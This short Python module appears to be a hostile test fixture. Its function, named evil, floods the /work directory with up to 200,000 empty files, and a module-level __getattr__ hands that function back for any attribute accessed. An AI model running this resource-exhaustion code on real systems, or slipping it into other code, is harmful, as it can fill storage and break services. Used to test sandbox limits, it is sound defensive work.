"""Creates files without end."""

def evil(*args):
    for number in range(200_000):
        try:
            open(f"/work/f{number}", "w").close()
        except OSError:
            break
    return 0

__getattr__ = lambda name: evil
